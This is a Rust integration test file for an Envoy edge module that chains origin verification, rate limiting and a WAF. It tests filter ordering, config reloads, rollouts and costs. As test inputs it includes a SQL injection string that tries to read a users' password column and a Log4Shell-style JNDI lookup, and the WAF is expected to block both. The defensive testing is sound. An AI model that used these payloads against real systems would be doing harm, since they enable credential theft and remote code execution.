//! Edge as it is deployed, in the host: what one module does with three configurations. That its verdicts are those of three
//! modules, `e2e/tests/edge.rs` shows.

mod browser;
mod deployed;

use backstop_host::pack::check;
use backstop_host::{Gateway, GrpcReply, Request, StreamState};
use serde_json::{Value, json};

use browser::{BROWSER, PATH, get};

const SECRET: &str = "5f0c9e27d1b84a63720e9fd4c6b1a853";
/// `printf %s "$SECRET" | openssl dgst -sha256 -binary | base64`
const DIGEST: &str = "j44fVJqwDJ6OoxIEpElHXaS/vfScRf4C7TUJh2arcfs=";
const ATTACK: &str = "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20";

fn origin_verify() -> Value {
    json!({"secrets": [{"name": "current", "sha256": DIGEST}]})
}

fn rate_limit() -> Value {
    json!({"limits": [{"name": "client", "key": [{"clientAddress": {}}], "tokensPerFill": 1, "fillInterval": "1h",
        "maxTokens": 3}]})
}

fn all() -> Value {
    json!({"originVerify": origin_verify(), "rateLimit": rate_limit(), "waf": {}})
}

fn gateway(config: &Value) -> Gateway {
    deployed::gateway("edge", config.to_string())
}

fn good(path: &str) -> Request {
    Request::get(path).header("x-origin-verify", SECRET)
}

/// The sum of a filter's counters called so.
fn counted(gateway: &mut Gateway, prefix: &str, name: &str) -> u64 {
    let counters = gateway.metrics().counters();
    counters
        .filter(|(counter, _)| counter.starts_with(prefix) && counter.ends_with(name))
        .map(|(_, value)| value)
        .sum()
}

#[test]
fn it_exports_what_it_implements_and_imports_what_envoy_has() {
    let exports: Vec<String> = check(&deployed::wasm("edge"))
        .unwrap()
        .into_iter()
        .filter(|name| name.starts_with("proxy_on_re"))
        .collect();
    assert_eq!(
        exports,
        [
            "proxy_on_request_body",
            "proxy_on_request_headers",
            "proxy_on_request_trailers",
            "proxy_on_response_headers",
        ]
    );
}

#[test]
fn a_module_has_only_the_code_of_its_own_filter() {
    let size = |filter: &str| deployed::wasm(filter).len();
    let (waf, edge) = (size("waf"), size("edge"));
    for small in ["origin-verify", "rate-limit"] {
        assert!(size(small) * 2 < waf, "{small}: {} of {waf}", size(small));
    }
    assert!(edge < waf + size("origin-verify") + size("rate-limit"));
}

#[test]
fn who_is_refused_by_one_is_not_seen_by_the_next() {
    let mut gateway = gateway(&all());
    let requests = [
        (Request::get(ATTACK), 403, "backstop_origin_verify{missing}"),
        (good("/"), 200, "via_upstream"),
        (good("/"), 200, "via_upstream"),
        (good(ATTACK), 403, "backstop_waf{SQL_INJECTION:"),
        (good(ATTACK), 429, "backstop_rate_limit{client}"),
    ];
    for (request, status, details) in requests {
        let outcome = gateway.send(&request);
        assert_eq!(outcome.status, status, "{request:?}");
        assert!(outcome.details.starts_with(details), "{outcome:?}");
        assert_eq!(outcome.logs.len(), usize::from(status != 200));
    }
    for (prefix, count) in [
        ("backstop_origin_verify.", 5),
        ("backstop_rate_limit.", 4),
        ("backstop_waf.", 3),
    ] {
        assert_eq!(
            counted(&mut gateway, prefix, "requests_total"),
            count,
            "{prefix}"
        );
    }
}

#[test]
fn the_waf_does_not_see_the_header_that_origin_verify_takes_off() {
    // The WAF would find this in any header, and name the header in its log.
    let request = Request::get("/").header("x-origin-verify", "${jndi:ldap://x.example/a}");
    let waf_alone = gateway(&json!({"waf": {}})).send(&request);
    assert_eq!(waf_alone.status, 403);
    let mut report = origin_verify();
    report["mode"] = "report".into();
    let outcome = gateway(&json!({"originVerify": report, "waf": {}})).send(&request);
    assert_eq!(outcome.status, 200);
    let upstream = outcome.upstream.as_ref().unwrap();
    assert!(!upstream.headers.contains("x-origin-verify"));
    let lines: Vec<&str> = outcome
        .logs
        .iter()
        .map(|line| line.message.as_str())
        .collect();
    assert_eq!(lines.len(), 1);
    assert!(lines[0].contains("ORIGIN_VERIFY_FAILED"), "{lines:?}");
    assert!(!lines[0].contains("jndi"), "{lines:?}");
}

#[test]
fn a_body_is_held_only_if_the_waf_wants_it() {
    for (waf, state) in [
        (None, StreamState::Flowing),
        (Some(json!({"mode": "detect"})), StreamState::Flowing),
        (
            Some(json!({"requestBody": {"enabled": false}})),
            StreamState::Flowing,
        ),
        (Some(json!({})), StreamState::Paused),
    ] {
        let mut config = json!({"originVerify": origin_verify(), "rateLimit": rate_limit()});
        if let Some(waf) = waf {
            config["waf"] = waf;
        }
        let mut gateway = gateway(&config);
        let request = Request::post("/").header("x-origin-verify", SECRET);
        let id = gateway.worker(0).open(&request);
        let mut stream = gateway.stream(id);
        let headers = stream.request_headers(request.header_map(), false);
        assert_eq!(headers, StreamState::Flowing);
        assert_eq!(stream.request_body("two tickets", false), state, "{config}");
        stream.request_body(", please", true);
        let outcome = stream.finish();
        assert_eq!(outcome.upstream.unwrap().body, b"two tickets, please");
    }
}

#[test]
fn a_bad_new_configuration_does_not_replace_a_good_one() {
    let mut gateway = gateway(&all());
    assert_eq!(gateway.send(good("/")).status, 200);
    let mut bad_last = all();
    bad_last["rateLimit"]["limits"][0]["maxTokens"] = 100.into();
    bad_last["waf"] = json!({"mode": "off"});
    for (config, error) in [
        (bad_last, "edge config: $.waf.mode: unknown variant `off`"),
        (
            json!({"waf": {}, "rateLimit": {"limits": []}}),
            "edge config: $.rateLimit.limits: 0 limits",
        ),
        (json!({}), "edge config: $: no section"),
        (
            json!({"waf": null}),
            "edge config: $.waf: invalid type: null",
        ),
    ] {
        let refused = gateway
            .reconfigure("edge", config.to_string())
            .unwrap_err()
            .to_string();
        assert!(refused.contains(error), "{refused}");
    }
    // All three as before, the buckets among them.
    assert_eq!(gateway.send(Request::get("/")).status, 403);
    assert_eq!(gateway.send(good(ATTACK)).status, 403);
    assert_eq!(gateway.send(good("/")).status, 200);
    assert_eq!(gateway.send(good("/")).status, 429);
}

#[test]
fn a_section_that_is_taken_out_is_switched_off() {
    let mut gateway = gateway(&all());
    assert_eq!(gateway.send(Request::get("/")).status, 403);
    let config = json!({"rateLimit": rate_limit(), "waf": {}});
    gateway.reconfigure("edge", config.to_string()).unwrap();
    assert_eq!(gateway.send(Request::get("/")).status, 200);
    assert_eq!(gateway.send(Request::get(ATTACK)).status, 403);
}

#[test]
fn a_roll_out_refuses_a_share_of_the_clients_and_reports_the_others() {
    let mut config = all();
    for section in ["originVerify", "rateLimit", "waf"] {
        config[section]["enforcePercent"] = 30.into();
    }
    let mut gateway = gateway(&config);
    let (inside, outside) = ("198.51.100.1:4000", "203.0.113.7:4000");
    assert_eq!(
        gateway.send(Request::get("/").client(inside)).status,
        403,
        "no secret"
    );
    assert_eq!(gateway.send(good(ATTACK).client(inside)).status, 403);
    for _ in 0..6 {
        assert_eq!(
            gateway.send(Request::get(ATTACK).client(outside)).status,
            200
        );
    }
    let statuses = [(); 4].map(|()| gateway.send(good("/").client(inside)).status);
    assert_eq!(statuses, [200, 200, 429, 429], "the attack took a token");
    config["waf"]["enforcePercent"] = 0.into();
    config["rateLimit"]["enforcePercent"] = 0.into();
    gateway.reconfigure("edge", config.to_string()).unwrap();
    assert_eq!(gateway.send(good(ATTACK).client(inside)).status, 200);
}

/// The rate-limit service is asked behind origin verify and before the WAF, which sees the request only once it is answered.
#[test]
fn the_rate_limit_service_stands_between_its_neighbours() {
    let mut config = all();
    config["rateLimit"]["globalLimits"] = json!({"cluster": "ratelimit", "domain": "shop", "failureMode": "deny",
        "descriptors": [{"entries": [{"key": "remote_address", "from": {"clientAddress": {}}}]}]});
    let mut gateway = Gateway::builder()
        .plugin(deployed::plugin("edge", config.to_string()))
        .clusters(["ratelimit"])
        .log_level(backstop_host::LogLevel::Info)
        .start()
        .unwrap();
    gateway.on_grpc_call(|_| GrpcReply::ok([8, 1]));
    let refused = gateway.send(Request::get(ATTACK));
    assert_eq!(
        (refused.status, refused.callouts.len()),
        (403, 0),
        "no secret"
    );
    let refused = gateway.send(good(ATTACK));
    assert_eq!((refused.status, refused.callouts.len()), (403, 1), "attack");
    let attack = Request::post("/")
        .header("x-origin-verify", SECRET)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("q=1' UNION SELECT password FROM users-- ");
    let refused = gateway.send(&attack);
    assert_eq!(
        (refused.status, refused.callouts.len()),
        (403, 1),
        "in a body"
    );
    assert!(gateway.send(good("/")).passed());
    let limited = gateway.send(good(ATTACK));
    assert_eq!((limited.status, limited.callouts.len()), (429, 0), "here");

    for (reply, status) in [
        (GrpcReply::ok([8, 2]), 429),
        (GrpcReply::status(14, "gone"), 503),
    ] {
        // Other buckets: full ones.
        config["rateLimit"]["limits"][0]["maxTokens"] = status.into();
        gateway.reconfigure("edge", config.to_string()).unwrap();
        gateway.on_grpc_call(move |_| reply.clone());
        let limited = gateway.send(good(ATTACK));
        assert_eq!((limited.status, limited.callouts.len()), (status, 1));
        assert_eq!(
            limited.logs.len(),
            1,
            "the WAF has seen nothing: {:?}",
            limited.logs
        );
    }
}

/// Fuel of an honest GET, warm.
fn fuel(gateway: &mut Gateway) -> u64 {
    let mut headers = BROWSER.to_vec();
    headers.push(("x-origin-verify", SECRET));
    let request = get(PATH, &headers);
    for _ in 0..2 {
        assert!(gateway.send(&request).passed());
    }
    let outcome = gateway.send(&request);
    assert!(outcome.passed());
    outcome.fuel()
}

#[test]
fn one_module_costs_less_than_three() {
    let mut limits = rate_limit();
    limits["limits"][0]["maxTokens"] = 100.into();
    let sections = [
        ("origin-verify", "originVerify", origin_verify()),
        ("rate-limit", "rateLimit", limits),
        ("waf", "waf", json!({})),
    ];
    let mut chain = Gateway::builder();
    let mut config = json!({});
    for (filter, section, own) in sections {
        chain = chain.plugin(deployed::plugin(filter, own.to_string()));
        config[section] = own;
    }
    let three = fuel(&mut chain.start().unwrap());
    let one = fuel(&mut gateway(&config));
    println!(
        "a browser's GET: {one} fuel in edge, {three} in three modules: {:.3}",
        one as f64 / three as f64
    );
    assert!(one < three, "{one} of {three}");
}
